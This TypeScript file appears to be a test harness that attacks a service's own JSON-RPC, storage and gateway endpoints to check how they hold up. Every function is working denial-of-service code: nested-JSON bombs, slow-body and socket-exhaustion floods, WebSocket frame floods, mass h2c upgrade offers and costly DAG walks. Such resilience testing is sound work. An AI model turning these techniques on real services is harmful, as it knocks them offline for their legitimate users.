import { readFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';

import { WebSocket } from 'ws';

/*
 * Clients that attack the service, run as a separate process until it is killed: `<attack> <file>`. The file is JSON:
 * the addresses of the listeners, and keys with their secrets. Each key is one client, unless the attack is one of a
 * single key, or of nobody. A client whose connection is closed opens another. It prints a line once the attack has its
 * full strength: on a busy machine that takes its time.
 */

type Targets = {
  readonly rpc: string;
  readonly storage: string;
  readonly gateway: string;
  readonly keys: readonly { readonly key: string; readonly secret: string }[];
};

const [attack, file] = process.argv.slice(2) as [string, string];
const targets = JSON.parse(readFileSync(file, 'utf8')) as Targets;
const url = new URL(targets.rpc);
const keys = targets.keys.map(({ key }) => key);

let isSaid = false;

function isReady(): void {
  if (!isSaid) console.log('ready');
  isSaid = true;
}

const LARGE = 5 * 1024 * 1024 - 1024;
const request = (method: string, params: string) => `{"jsonrpc":"2.0","id":1,"method":"${method}","params":${params}}`;
const LOOK_UP = request('eth_getUncleByBlockNumberAndIndex', '["0x29c","0x0"]');

const headOf = (key: string, length: number) =>
  `POST /v3/${key} HTTP/1.1\r\nhost: ${url.host}\r\ncontent-type: application/json\r\ncontent-length: ${length}\r\n\r\n`;

/** Opens a connection, and another one a little after it is closed. */
function keepOpen(start: (socket: Socket) => void, { port, hostname }: Pick<URL, 'port' | 'hostname'> = url): void {
  const socket = connect(Number(port), hostname, () => {
    start(socket);
  });
  socket.on('error', () => undefined);
  socket.on('close', () =>
    setTimeout(() => {
      keepOpen(start, { port, hostname });
    }, 10),
  );
}

/** Sends the same request again as soon as it is answered. */
function repeat(body: string): (key: string) => void {
  return (key) => {
    const whole = Buffer.from(headOf(key, body.length) + body);
    keepOpen((socket) => {
      socket.on('data', () => socket.write(whole));
      socket.write(whole);
    });
  };
}

/** Announces a body and sends a byte of it from time to time, on several connections. */
function slowBodies(key: string): void {
  for (let count = 0; count < 20; count++)
    keepOpen((socket) => {
      socket.write(headOf(key, 100_000));
      const timer = setInterval(() => socket.write(' '), 50);
      socket.on('close', () => {
        clearInterval(timer);
      });
    });
}

/** Opens connections without end and sends nothing. */
function openSockets(): void {
  setInterval(() => {
    const socket = connect(Number(url.port), url.hostname);
    socket.on('error', () => undefined);
  }, 10);
}

/** Sends frames as fast as the connection takes them. */
function floodFrames(key: string): void {
  const socket = new WebSocket(`ws://${url.host}/ws/v3/${key}`, { perMessageDeflate: false });
  const pump = () => {
    if (socket.readyState !== WebSocket.OPEN) return;
    for (let count = 0; count < 100 && socket.bufferedAmount < 1 << 20; count++) socket.send(LOOK_UP);
    setTimeout(pump, 1);
  };
  socket.on('open', pump);
  socket.on('error', () => undefined);
  socket.on('close', () =>
    setTimeout(() => {
      floodFrames(key);
    }, 10),
  );
}

/** How many connections an attack without a key opens. */
const CONNECTIONS = 10_000;

const plainGet = (path: string) => `GET ${path} HTTP/1.1\r\nhost: x\r\n\r\n`;
const offer = (path: string) =>
  `GET ${path} HTTP/1.1\r\nhost: x\r\nconnection: Upgrade, HTTP2-Settings\r\nupgrade: h2c\r\nhttp2-settings: AAMA\r\n\r\n`;
const listeners = [targets.rpc, targets.storage, targets.gateway].map((each) => new URL(each));

/** Opens connections to every listener, as many as there may be, and sends the same on each. */
function fromNobody(bytes: string, closes: boolean): void {
  let opened = 0;
  for (let count = 0; count < CONNECTIONS; count++)
    setTimeout(() => {
      keepOpen(
        (socket) => {
          if (++opened === CONNECTIONS) isReady();
          socket.resume();
          if (closes) socket.end(bytes);
          else socket.write(bytes);
        },
        listeners[count % listeners.length],
      );
    }, count / 2);
}

const basic = ({ key, secret }: Targets['keys'][number]) =>
  `authorization: Basic ${Buffer.from(`${key}:${secret}`).toString('base64')}`;

/** Asks for long answers with one key, and reads none of them. */
function unreadAnswers(key: string): void {
  if (key !== keys[0]) return;
  const body = request('eth_getLogs', '[]');
  for (let count = 0; count < 60; count++)
    keepOpen((socket) => {
      socket.write(headOf(key, body.length) + body);
    });
}

/** Puts a DAG of many blocks, and returns its root. */
async function putDag(owner: Targets['keys'][number]): Promise<string> {
  let root = '';
  for (let depth = 0; depth < 200; depth++) {
    const form = new FormData();
    form.append('data', new Blob([JSON.stringify(root === '' ? depth : [depth, { '/': root }])]));
    const authorization = basic(owner).replace('authorization: ', '');
    const response = await fetch(`${targets.storage}/api/v0/dag/put`, {
      method: 'POST',
      body: form,
      headers: { authorization },
    });
    ({
      Cid: { '/': root },
    } = (await response.json()) as { Cid: { '/': string } });
  }
  return root;
}

/** Walks a DAG again and again with one key: 32 requests at once, each of which visits 50,000 blocks. */
async function storageWalks(key: string): Promise<void> {
  const [owner] = targets.keys;
  if (owner === undefined || key !== owner.key) return;
  const root = await putDag(owner);
  const walk = `POST /api/v0/pin/add?progress=true${`&arg=${root}`.repeat(200)} HTTP/1.1\r\nhost: x\r\n${basic(owner)}\r\ncontent-length: 0\r\n\r\n`;
  for (let count = 0; count < 32; count++)
    keepOpen((socket) => {
      socket.resume().write(walk.repeat(10));
    }, new URL(targets.storage));
}

/** Asks the gateway for CAR files from one address: 16 at once. */
async function gatewayFiles(key: string): Promise<void> {
  const [owner] = targets.keys;
  if (owner === undefined || key !== owner.key) return;
  const ask = plainGet(`/ipfs/${await putDag(owner)}?format=car&car-dups=y`);
  for (let count = 0; count < 16; count++)
    keepOpen((socket) => {
      socket.resume().write(ask.repeat(100));
    }, new URL(targets.gateway));
}

const once = (start: () => void) => (key: string) => {
  if (key === keys[0]) start();
};

const ATTACKS: Readonly<Record<string, (key: string) => void | Promise<void>>> = {
  'nested JSON': repeat(request('eth_call', '['.repeat(LARGE / 2) + ']'.repeat(LARGE / 2))),
  'flat array': repeat(`[${'0,'.repeat(LARGE / 2)}0]`),
  'huge batches': repeat(`[${Array.from({ length: 100 }, () => LOOK_UP).join(',')}]`),
  'look-ups': repeat(LOOK_UP),
  'slow bodies': slowBodies,
  'endless sockets': openSockets,
  'WebSocket frames': floodFrames,
  'upgrade offers': once(() => {
    fromNobody(offer('/livez'), false);
  }),
  'pipelined offers': once(() => {
    fromNobody(offer('/livez').repeat(2), true);
  }),
  'unread answers': unreadAnswers,
  'storage walks': storageWalks,
  'gateway files': gatewayFiles,
};

const start = ATTACKS[attack];
if (!start) throw new Error(`unknown attack: ${attack}`);
await Promise.all(keys.map((key) => start(key)));
if (!attack.endsWith('offers')) isReady();
